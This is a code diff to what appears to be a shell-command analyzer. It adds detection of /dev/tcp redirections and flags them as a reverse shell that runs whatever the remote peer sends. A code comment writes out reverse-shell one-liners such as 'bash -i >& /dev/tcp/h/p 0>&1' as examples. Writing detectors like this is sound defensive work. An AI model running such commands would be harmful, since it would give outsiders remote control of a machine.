@@ -11,6 +11,7 @@ import re
 from pipeline.analysis.shell.args import has_opt, looks_like_path, opt_values, parse_opts
 from pipeline.analysis.shell.tables import CODE_FLAGS, OPTIONS, PY_ARG, WRAPPERS
 from pipeline.analysis.shell.ctx import Ctx
+from pipeline.analysis.shell.model import DEV_TCP
 
 
 
@@ -63,6 +64,14 @@ def h_shell(ctx: Ctx, args: list[str], name: str) -> None:
         return
     if pos and not stdin_mode and ctx.text(pos[0]) != "-":
         _script(ctx, pos)
+        return
+    peers = [m for _, t in ctx.redirs if (m := DEV_TCP.match(ctx.text(t)))]
+    if peers:
+        # no script, no -c text and a stream on a raw connection (`bash -i >& /dev/tcp/h/p
+        # 0>&1`, `nohup sh < /dev/tcp/h/p &`, behind any wrapper: a reverse shell): it runs
+        # what the peer sends; `bash job.sh > /dev/tcp/h/p` (a script, above) only writes
+        for m in peers:
+            ctx.acc.add("executes", f"{m.group(1)}://{m.group(2)}:{m.group(3)}")
         return
     ctx.stdin_program("shell")
 
